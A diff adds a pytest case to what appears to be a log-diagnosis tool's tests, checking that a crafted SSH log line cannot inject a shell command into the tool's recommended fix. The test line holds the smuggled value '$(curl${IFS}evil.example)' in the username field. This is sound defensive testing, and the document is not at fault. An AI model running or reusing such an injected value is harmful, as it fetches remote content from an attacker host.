@@ -197,6 +197,13 @@ def test_a_long_line_is_quoted_around_what_matters(diagnose):
     assert "OutOfMemoryError" in found.evidence[0].text
 
 
+def test_a_value_of_the_log_cannot_write_a_shell_command(diagnose):
+    tries = [f"bastion sshd[{n}]: Failed password for root from 203.0.113.7 port {n} ssh2" for n in range(100, 160)]
+    evil = "bastion sshd[7]: Accepted password for $(curl${IFS}evil.example) from 203.0.113.7 port 1 ssh2"
+    found = diagnose(log_of(*tries, evil))
+    assert "usermod -L <user>" in found.recommendation
+
+
 def test_braces_and_percent_signs_of_the_log_do_no_harm(diagnose):
     found = diagnose(log_of(*["ERROR {count} {0} %s {line} `boom`"] * 3))
     assert "{count} {0} %s {line}" in found.summary
